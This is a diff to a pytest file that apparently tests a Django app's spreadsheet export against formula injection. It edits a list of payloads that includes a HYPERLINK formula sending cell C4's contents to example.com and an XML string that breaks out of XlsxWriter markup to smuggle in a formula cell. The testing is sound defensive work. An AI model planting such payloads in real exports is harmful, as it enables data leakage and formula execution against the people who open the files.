@@ -23,7 +23,8 @@ pytestmark = pytest.mark.django_db
 
 PAYLOADS = ["=1+1", '=HYPERLINK("http://example.com/?id="&C4,"点击查看")', "@SUM(A1:A9)", "-2+3", "+1-1",
             # XlsxWriter writes a string shaped like its own rich-string XML without escaping it
-            '<r><t>a</t></r></is></c><c r="Z1"><f>HYPERLINK("http://example.com")</f></c><c><is><r><t>b</t></r>']
+            # (kept within the 50 characters a name may have)
+            '<r></r></is></c><c><f>1+1</f></c><c><is><r></r>']
 
 
 def _cells(workbook):
